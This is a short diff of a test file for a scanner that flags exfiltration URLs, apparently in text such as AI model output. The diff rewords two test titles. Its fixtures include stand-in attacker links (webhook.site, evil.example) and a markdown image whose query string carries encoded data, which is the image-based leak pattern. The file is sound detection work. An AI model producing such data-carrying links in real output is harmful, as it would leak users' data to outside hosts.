@@ -67,12 +67,12 @@ describe("exfiltration", () => {
     expect(types(text)).toEqual([type]);
   });
 
-  it("reports the URL alone, without the punctuation after it", () => {
+  it("reports only the URL, without the punctuation after it", () => {
     expect(found("(see https://webhook.site/a).")).toEqual(["https://webhook.site/a"]);
     expect(found("![a](https://evil.example/a_(b).png) x")).toEqual(["https://evil.example/a_(b).png"]);
   });
 
-  it("leaves images without data where `images` is `data`", () => {
+  it("ignores images without data if `images` is `data`", () => {
     const scanner = new Scanner([exfiltration({ images: "data" })]);
     expect(found("![a](https://evil.example/x.png)", scanner)).toEqual([]);
     expect(found(`![a](https://evil.example/x.png?${ENCODED})`, scanner)).toHaveLength(1);
